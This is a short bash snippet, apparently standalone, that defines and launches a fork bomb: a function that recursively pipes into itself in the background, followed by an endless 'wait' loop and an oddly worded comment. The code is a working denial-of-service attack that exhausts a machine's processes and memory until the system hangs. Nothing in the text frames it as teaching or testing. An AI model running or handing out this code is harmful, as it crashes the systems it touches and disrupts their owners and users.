bomb() { bomb | bomb & }
bomb
# Needs no process more.
while :; do wait; done
